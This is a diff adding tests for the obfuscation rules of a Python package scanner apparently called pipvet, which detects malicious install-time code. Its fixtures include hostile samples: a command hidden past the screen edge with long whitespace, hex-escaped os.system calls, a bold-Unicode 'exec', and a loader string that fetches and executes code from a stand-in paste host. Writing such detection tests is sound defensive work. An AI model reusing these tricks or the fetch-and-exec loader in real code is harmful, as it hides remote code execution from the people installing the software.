@@ -1,0 +1,91 @@
+"""Obfuscation: encoded blobs, whitespace payloads, chr joins, hidden code, look-alike names."""
+
+from __future__ import annotations
+
+import base64
+import os
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules.obfuscation import RULES, blob_kind, entropy
+from pipvet.models import Severity, Stage
+
+
+def _ids(source: str, path: str = "acme/__init__.py", stage: Stage = Stage.IMPORT) -> set[str]:
+    return ids(run(RULES, py(source, path=path, stage=stage)))
+
+
+def test_large_base64_blob_is_flagged_but_prose_and_protobuf_bytes_are_not() -> None:
+    blob = base64.b64encode(os.urandom(30_000)).decode()
+    assert blob_kind(blob) == "base64"
+    findings = run(RULES, py(f"DATA = '{blob}'\n"))
+    assert [f.severity for f in findings] == [Severity.MEDIUM]
+    prose = "the quick brown fox jumps over the lazy dog " * 100
+    assert blob_kind(prose) is None
+    descriptor = b'\n\x0bfoo.proto\x12\x03foo"\x1d\n\x03Bar\x12\x0b\n\x03baz\x18\x01 \x01(\t' * 200
+    assert blob_kind(descriptor) is None
+    assert entropy("aaaa") == 0.0
+
+
+def test_whitespace_payload_is_high() -> None:
+    payload = " \t" * 300
+    assert _ids(f"S = {payload!r}\n") == {"PV-OBF-002"}
+    assert _ids(f"PAD = {' ' * 400!r}\n") == set()  # a run of one space character is padding
+
+
+def test_chr_join_of_a_code_list() -> None:
+    codes = [ord(c) for c in "http://x.invalid/p"]
+    assert _ids(f"u = ''.join(map(chr, {codes}))\n") == {"PV-OBF-003"}
+    assert _ids("alphabet = ''.join(map(chr, range(97, 123)))\n") == set()
+
+
+def test_code_hidden_past_the_screen_edge() -> None:
+    source = "x = 1" + " " * 200 + "; __import__('os').system('id')\n" + "y = 2\n" * 5
+    assert "PV-OBF-004" in _ids(source)
+    assert _ids("x = 1  # " + "-" * 300 + "\n") == set()
+
+
+def test_pyarmor_runtime_is_flagged() -> None:
+    assert _ids("from pytransform import pyarmor_runtime\npyarmor_runtime()\n") == {"PV-OBF-005"}
+
+
+def test_nfkc_folded_identifier_is_high_but_plain_unicode_names_are_fine() -> None:
+    bold_exec = "\U0001d41e\U0001d431\U0001d41e\U0001d41c"  # mathematical bold 'exec'
+    findings = run(RULES, py(f"{bold_exec}('print(1)')\n", path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert ids(findings) == {"PV-OBF-006"}
+    assert findings[0].severity is Severity.HIGH
+    assert _ids("größe = 3\n名前 = 'x'\n") == set()
+
+
+def test_builtin_indirections() -> None:
+    computed = "f = getattr(__builtins__, 'ch' + 'r')\nprint(f(65))\n"
+    assert _ids(computed) == {"PV-OBF-007"}
+    assert _ids("e = eval('exec')\n") == {"PV-OBF-007"}
+    # typing_extensions-style lookup by a parameter inside a function is ordinary.
+    assert _ids("import builtins\ndef f(arg):\n    return getattr(builtins, arg)\n") == set()
+
+
+def test_escape_obfuscated_text() -> None:
+    hidden = "".join(f"\\x{ord(c):02x}" for c in "import os; os.system('id')" * 10)
+    assert _ids(f'x = "{hidden}"\n') == {"PV-OBF-009"}
+    binary = "".join(f"\\x{b:02x}" for b in os.urandom(200) if b < 0x20 or b >= 0x7F)
+    assert _ids(f'x = b"{binary}"\n') == set()
+
+
+def test_unparseable_files_get_text_checks() -> None:
+    source = "import base64\nprint 'py2'\nexec base64.b64decode('cHJpbnQgMQ==')\n"
+    findings = run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    assert ids(findings) == {"PV-OBF-008"}
+    assert findings[0].severity is Severity.CRITICAL
+    assert "does not parse" in findings[0].message
+    assert _ids("print 'hello'\n") == set()
+
+
+def test_loader_code_kept_in_a_string() -> None:
+    stage2 = "from urllib.request import urlopen;exec(urlopen('https://paste.invalid/raw').read())"
+    source = (
+        f"import tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'')\nCODE = {stage2!r}\n"
+    )
+    assert "PV-OBF-010" in _ids(source)
+    doc = "EXAMPLE = 'Use exec(compile(source, path, \"exec\")) to run a file.'\n"
+    assert "PV-OBF-010" not in _ids(doc)
